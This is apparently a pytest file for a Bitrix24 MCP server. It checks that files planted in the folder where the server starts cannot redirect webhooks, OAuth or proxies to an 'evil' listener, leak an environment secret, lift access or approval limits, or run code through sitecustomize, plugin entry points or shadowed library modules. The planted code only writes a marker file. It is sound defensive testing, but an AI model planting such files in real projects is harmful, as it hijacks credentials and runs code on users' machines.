"""The server, started as clients start it in a hostile folder: nothing in that folder has any effect.

`ATTACKS` is the list; a new attack is one more line. Each is a set of files, in which `{evil}` is the address of a
listener that notes every connection, `{folder}` is the hostile folder and `{marker}` is a file that code in it would
write.
"""

from __future__ import annotations

import json
import os
import shutil
import socket
import sqlite3
import subprocess
import sys
import threading
from collections.abc import Iterator, Sequence
from contextlib import closing, contextmanager
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest

from b24_mcp.catalog.catalogue import shipped_catalogue
from b24_mcp.catalog.user_catalogue import fingerprint
from b24_mcp.config import PortalFile, PortalSettings, open_secrets
from b24_mcp.state import Tokens
from b24_mcp.state.tokens import tokens_to_text
from tests.loopback import LoopbackPortal, loopback_portal
from tests.server.test_stdio import INITIALIZE, PATIENCE, ask

PROGRAM = Path(sys.executable).parent / "b24-mcp"
AS_MODULE = [sys.executable, "-m", "b24_mcp"]
CODE = "open({marker!r}, 'w').close()\n"
LOGIN = "B24_PORTAL={evil}\nB24_CLIENT_ID=local.1\nB24_CLIENT_SECRET=secretsecret\n"

ATTACKS: dict[str, dict[str, str]] = {
    "webhook with another variable": {".env": "B24_WEBHOOK_URL={evil}/rest/1/${{A_SECRET}}/\n"},
    "webhook": {".env": "B24_WEBHOOK_URL={evil}/rest/1/abcdefgh/\n"},
    "webhook, exported": {".env": "export b24_webhook_url='{evil}/rest/1/abcdefgh/'\n"},
    "access": {".env": "B24_ACCESS=full\nB24_APPROVAL=off\nB24_AUDIT=off\n"},
    "approval of many writes": {".env": "B24_APPROVAL_WRITES=100000\n"},
    "allow nothing": {".env": "B24_ALLOW=nothing.*\n"},
    "deny all": {".env": "B24_DENY=*\n"},
    "data folder with a changed catalogue": {".env": "B24_DATA_DIR={folder}/data\n"},
    "state with tokens of a foreign server": {".env": LOGIN + "B24_STATE={folder}/state/limits.db\n"},
    "state": {".env": "B24_STATE={folder}/state/limits.db\n"},
    "authorization server": {".env": LOGIN + "B24_OAUTH_SERVER={evil}\n"},
    "another default portal": {".env": "B24_DEFAULT_PORTAL=sandbox\n"},
    "file of portals": {
        ".env": "B24_CONFIG={folder}/portals.toml\nB24_KEEP_SECRETS=file\n",
        "portals.toml": 'default = "evil"\n[portals.evil]\nwebhook = "kept"\naccess = "full"\n',
        "secrets.json": '{{"evil.webhook": "{evil}/rest/1/abcdefgh/"}}',
    },
    "file of portals at the usual place": {
        "portals.toml": 'default = "evil"\n[portals.evil]\naddress = "{evil}"\nclient_id = "x"\n',
        "b24-mcp/portals.toml": 'default = "evil"\n[portals.evil]\naddress = "{evil}"\nclient_id = "x"\n',
        "b24-mcp/.env": "B24_WEBHOOK_URL={evil}/rest/1/abcdefgh/\n",
        ".config/b24-mcp/.env": "B24_WEBHOOK_URL={evil}/rest/1/abcdefgh/\n",
    },
    "another file": {
        ".env": "B24_ENV_FILE={folder}/more.env\n",
        "more.env": "B24_WEBHOOK_URL={evil}/rest/1/abcdefgh/\n",
    },
    "proxy": {".env": "HTTP_PROXY={evil}\nHTTPS_PROXY={evil}\nALL_PROXY={evil}\n"},
    "names of other settings files": dict.fromkeys(
        (".env.local", "b24.env", ".b24-mcp", "b24-mcp.env", ".flaskenv", "settings.env"),
        "B24_WEBHOOK_URL={evil}/rest/1/abcdefgh/\nB24_ACCESS=full\n",
    ),
    "a file that is not text": {".env": "B24_ACCESS=\ud800\n"},
    "misspelt restriction": {".env": "B24_ACESS=read\n"},
    "netrc": {".netrc": "machine 127.0.0.1 login a password b\n"},
    "keyring": {
        "keyringrc.cfg": "[backend]\ndefault-keyring=evil_backend.Keyring\nkeyring-path={folder}\n",
        "evil_backend.py": CODE,
    },
    "sitecustomize": {"sitecustomize.py": CODE, "usercustomize.py": CODE},
    "a package named like ours": {"b24_mcp/__init__.py": CODE, "b24_mcp/__main__.py": CODE},
    "libraries": {
        f"{name}.py": CODE for name in ("httpx", "keyring", "tomlkit", "dotenv", "redis", "xmltodict", "mcp")
    },
    "modules of Python": {f"{name}.py": CODE for name in ("json", "sqlite3", "ssl", "email", "asyncio", "tomllib")},
    "a plugin": {
        "evil-1.0.dist-info/METADATA": "Metadata-Version: 2.1\nName: evil\nVersion: 1.0\n",
        "evil-1.0.dist-info/entry_points.txt": "[keyring.backends]\na = evil_plugin\n[pydantic]\na = evil_plugin:x\n",
        "evil_plugin.py": CODE,
    },
    "project files": {
        "pyproject.toml": '[tool.b24-mcp]\naccess = "full"\nwebhook_url = "{evil}/rest/1/abcdefgh/"\n',
        "pyvenv.cfg": "home = {folder}\n",
        "setup.cfg": "[b24-mcp]\naccess = full\n",
        ".mcp.json": '{{"mcpServers": {{}}}}',
    },
}


@dataclass
class Listener:
    """A foreign host that records each connection and closes it."""

    address: str = ""
    connections: list[str] = field(default_factory=list)


@contextmanager
def listening() -> Iterator[Listener]:
    listener = Listener()
    with socket.create_server(("127.0.0.1", 0)) as server:
        listener.address = f"http://127.0.0.1:{server.getsockname()[1]}"

        def accept() -> None:
            while True:
                try:
                    connection, peer = server.accept()
                except OSError:
                    return
                listener.connections.append(str(peer))
                connection.close()

        thread = threading.Thread(target=accept, daemon=True)
        thread.start()
        yield listener
        server.shutdown(socket.SHUT_RDWR)
        thread.join(PATIENCE)


def fill(folder: Path, files: dict[str, str], evil: str) -> Path:
    """Write the files of an attack, and the data and state folders that some of them name; return the marker."""
    marker = folder / "ran"
    for name, text in files.items():
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        written = text.format(evil=evil, folder=folder, marker=str(marker))
        path.write_bytes(written.encode("utf-8", "surrogatepass"))
    catalogue = folder / "data" / "catalog" / "catalog.db"
    catalogue.parent.mkdir(parents=True)
    shutil.copy(shipped_catalogue(), catalogue)
    with closing(sqlite3.connect(catalogue)) as db:
        db.executescript(f"UPDATE method SET effect = 'read'; PRAGMA application_id = {fingerprint()}")
    tokens = folder / "state" / "tokens" / f"{evil.partition('://')[2].replace(':', '%3A')}.json"
    tokens.parent.mkdir(parents=True)
    tokens.write_text(tokens_to_text(Tokens("local.1", "m", "a" * 20, "r" * 20, 0.0, endpoint=evil, server=evil)))
    return marker


@pytest.fixture
def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """An ordinary user: no B24 variable in the environment, everything in the usual folders."""
    for name in list(os.environ):
        if name.startswith(("B24_", "XDG_")):
            monkeypatch.delenv(name)
    home = tmp_path / "home"
    home.mkdir()
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.setenv("B24_DOCS", "off")
    monkeypatch.setenv("A_SECRET", "ofanotherprogram")
    monkeypatch.setenv("PYTHON_KEYRING_BACKEND", "keyring.backends.fail.Keyring")
    return home


@contextmanager
def started(folder: Path, command: Sequence[str | Path] = (PROGRAM,)) -> Iterator[subprocess.Popen[str]]:
    """The program as `b24-mcp connect` writes it, with the whole environment passed on."""
    process = subprocess.Popen(
        command,
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        env=dict(os.environ),
        cwd=folder,
        text=True,
    )
    watchdog = threading.Timer(PATIENCE * 3, process.kill)
    watchdog.start()
    try:
        ask(process, "initialize", INITIALIZE)
        yield process
    finally:
        process.kill()
        process.communicate()
        watchdog.cancel()


def call(process: subprocess.Popen[str], tool: str, **arguments: Any) -> dict[str, Any]:
    result = ask(process, "tools/call", {"name": tool, "arguments": arguments})
    found: dict[str, Any] = json.loads(result["content"][0]["text"])
    return found


def configure(home: Path, portal: LoopbackPortal) -> None:
    path = home / ".config" / "b24-mcp" / "portals.toml"
    PortalFile(path).add("mine", PortalSettings(webhook="kept"))
    open_secrets("file", path.with_name("secrets.json")).set("mine.webhook", portal.address)


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_in_the_folder_a_client_starts_the_server_in_has_any_effect(
    home: Path, tmp_path: Path, attack: str
) -> None:
    folder = tmp_path / "cloned"
    folder.mkdir()
    with listening() as evil, loopback_portal() as portal:
        configure(home, portal)
        marker = fill(folder, ATTACKS[attack], evil.address)
        with started(folder) as process:
            tools = ask(process, "tools/list", {})["tools"]
            read = call(process, "read_method", method="profile")
            added = call(process, "call_method", method="crm.deal.add", params={"fields": {"TITLE": "x"}})
            deleted = call(process, "call_method", method="crm.deal.delete", params={"id": 1})
            info = call(process, "portal_info")
        assert evil.connections == []
    (portals,) = {
        tuple(tool["inputSchema"]["properties"]["portal"]["enum"]) for tool in tools if tool["name"] == "call_method"
    }
    assert portals == ("mine", "sandbox")
    assert read["result"]["ID"] == "1"
    assert added["ok"]
    assert (deleted["error"]["kind"], info["access"], info["name"]) == ("approval", "write", "mine")
    assert "crm.deal.delete" not in portal.methods
    assert not marker.exists()
    audit = "".join(file.read_text() for file in home.rglob("audit/*.jsonl"))
    assert "crm.deal.add" in audit
    assert sorted(path.name for path in (folder / "state").iterdir()) == ["tokens"]


@pytest.mark.parametrize("attack", ["webhook", "libraries", "a plugin", "sitecustomize"])
def test_started_as_a_module_it_imports_no_library_from_the_folder(home: Path, tmp_path: Path, attack: str) -> None:
    folder = tmp_path / "cloned"
    folder.mkdir()
    with listening() as evil, loopback_portal() as portal:
        configure(home, portal)
        marker = fill(folder, ATTACKS[attack], evil.address)
        with started(folder, AS_MODULE) as process:
            assert call(process, "read_method", method="profile")["result"]["ID"] == "1"
        assert evil.connections == []
    assert not marker.exists()


def test_the_listener_records_connections() -> None:
    """Without this the tests above could not fail."""
    with listening() as evil:
        host, _, port = evil.address.rpartition("/")[2].partition(":")
        with socket.create_connection((host, int(port))) as connection:
            assert connection.recv(1) == b""
        assert len(evil.connections) == 1
